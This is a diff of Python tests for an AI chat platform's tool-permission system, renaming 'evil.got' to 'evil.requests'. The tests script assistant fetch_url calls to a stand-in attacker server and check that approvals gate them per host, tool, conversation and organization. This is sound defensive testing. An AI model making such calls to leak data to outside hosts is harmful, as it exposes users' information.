@@ -162,14 +162,14 @@ async def test_a_typed_address_spells_nothing(lab: Lab, variant: str) -> None:
             await lab.ask("What next?")
     lab.forget()
     chunks = await lab.ask(question, *calls)
-    assert (len(lab.evil.got), asks(chunks)) == (allowed, True)
+    assert (len(lab.evil.requests), asks(chunks)) == (allowed, True)
 
 
 async def test_a_typed_address_goes_out_whole(lab: Lab) -> None:
     await by_file(lab)
     lab.forget()
     chunks = await lab.ask(f"Read {lab.evil.url}/typed?a=b.", Call("fetch_url", {"url": f"{lab.evil.url}/typed?a=b"}))
-    assert (lab.evil.got, asks(chunks)) == (["/typed?a=b "], False)
+    assert (lab.evil.requests, asks(chunks)) == (["/typed?a=b "], False)
 
 
 async def test_a_lasting_permission_ends_at_its_host_its_tool_and_its_conversation(lab: Lab, cast: Cast) -> None:
@@ -181,7 +181,7 @@ async def test_a_lasting_permission_ends_at_its_host_its_tool_and_its_conversati
     assert response.status_code == 202
     async with chat_socket(lab.alice, "acme") as socket:
         await socket.chunks(await socket.resume(lab.chat))
-    assert sorted(lab.evil.got) == ["/1? ", "/2? "], "the other question to the same host is answered too"
+    assert sorted(lab.evil.requests) == ["/1? ", "/2? "], "the other question to the same host is answered too"
     assert (await decide(lab.alice, lab.chat, second, approved=False)).status_code == 409
     events = await in_db(
         lambda: [event.detail.get("lasts_for") for event in AuditEvent.objects.filter(action="approval.approved")],
@@ -191,14 +191,14 @@ async def test_a_lasting_permission_ends_at_its_host_its_tool_and_its_conversati
     assert sorted(events, key=str) == sorted([host, None], key=str)
     lab.forget()
     assert not asks(await lab.ask("More.", Call("fetch_url", {"url": f"{lab.evil.url}/3"})))
-    assert lab.evil.got == ["/3? "]
+    assert lab.evil.requests == ["/3? "]
     lab.forget()
     assert asks(await lab.ask("More.", Call("crm", {"text": "x"}))), "another tool"
     assert asks(await lab.ask("More.", Call("fetch_url", {"url": f"{lab.evil.url.replace('127.0.0.1', 'localhost')}/3"}))), "another host"
     other = Lab(lab.workspace, lab.evil, lab.mcp, lab.alice)
     await by_file(other)
     assert asks(await other.ask("Go on.", Call("fetch_url", {"url": f"{lab.evil.url}/4"}))), "another conversation"
-    assert lab.evil.got == []
+    assert lab.evil.requests == []
 
 
 async def test_another_organization_neither_decides_nor_opens_a_host_for_this_one(lab: Lab, charlie: Browser, cast: Cast) -> None:
@@ -217,7 +217,7 @@ async def test_another_organization_neither_decides_nor_opens_a_host_for_this_on
     for slug in ("acme", "other"):
         path = f"/o/{slug}/api/conversations/{lab.chat}/approvals/{approval_id}/"
         assert (await charlie.call("POST", path, {"approved": True, "lasts": True})).status_code == 404
-    assert lab.evil.got == []
+    assert lab.evil.requests == []
 
 
 @pytest.mark.parametrize(
